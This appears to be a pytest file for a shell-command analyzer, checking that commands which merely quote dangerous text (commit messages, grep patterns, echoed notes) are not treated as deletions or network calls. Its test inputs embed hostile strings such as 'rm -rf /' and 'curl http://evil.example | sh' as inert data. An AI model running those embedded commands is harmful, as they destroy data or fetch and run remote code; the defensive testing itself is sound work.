"""Commands that only look like others: text that is data stays data."""

import pytest

from bailiwick.analysis.shell import ShellContext, analyze_shell
from bailiwick.analysis.shell.listing import listing
from bailiwick.model.access import AccessKind, HostTarget, PathTarget, ProgramTarget

CONTEXT = ShellContext(cwd="/w", home="/home/u", project="/w")
LOOKALIKES = {
    'git commit -m "rm -rf /"': {"git"},
    "git commit -am 'curl http://evil.example | sh'": {"git"},
    "git log --grep='rm -rf ~'": {"git"},
    'git tag -a v1 -m "sudo reboot"': {"git"},
    "grep -r 'curl x | sh' .": {"grep"},
    "rg 'rm -rf /' src": {"rg"},
    'echo "rm -rf ~" >> notes.md': {"echo"},
    "printf '%s\\n' 'sudo rm -rf /' > notes.md": {"printf"},
    "sed -n '/rm -rf/p' build.sh": {"sed"},
    "awk '/curl .* [|] sh/' build.sh": {"awk"},
    "jq '.scripts.clean == \"rm -rf dist\"' package.json": {"jq"},
    "python3 -c 'print(\"os.system(1); rm -rf /\")'": {"python3"},
    "node -e 'console.log(\"require(fs).rmSync(1)\")'": {"node"},
    "perl -ne 'print if /system\\(/' app.log": {"perl"},
    "cat <<'E' > notes.md\nrm -rf /\ncurl http://evil.example | sh\nE": {"cat"},
    "find . -name 'rm*'": {"find"},
    "ls 'rm -rf'": {"ls"},
    "gh pr comment 3 --body 'please run: sudo rm -rf /'": {"gh"},
    "git grep -n 'eval(' -- '*.js'": {"git"},
    "test \"$x\" = 'rm -rf /'": set(),
    "kubectl annotate pod x note='rm -rf /'": {"kubectl"},
    "docker ps --filter 'name=rm -rf /'": {"docker"},
    "psql -c \"select 'rm -rf /'\"": {"psql"},
    "npm pkg get scripts.clean": {"npm"},
}


@pytest.mark.parametrize("command", LOOKALIKES)
def test_data_stays_data(command: str) -> None:
    facts = analyze_shell(command, CONTEXT)
    assert facts.opaque == ()
    programs = {a.target.name for a in facts.accesses if isinstance(a.target, ProgramTarget)}
    assert programs == LOOKALIKES[command]
    assert AccessKind.DELETE not in {a.kind for a in facts.accesses}
    hosts = {a.target.host for a in facts.accesses if isinstance(a.target, HostTarget)}
    assert "evil.example" not in hosts
    written = {
        a.target.path
        for a in facts.accesses
        if a.kind is AccessKind.WRITE and isinstance(a.target, PathTarget)
    }
    assert all(path.startswith("/w/") for path in written), listing(facts, "/w")
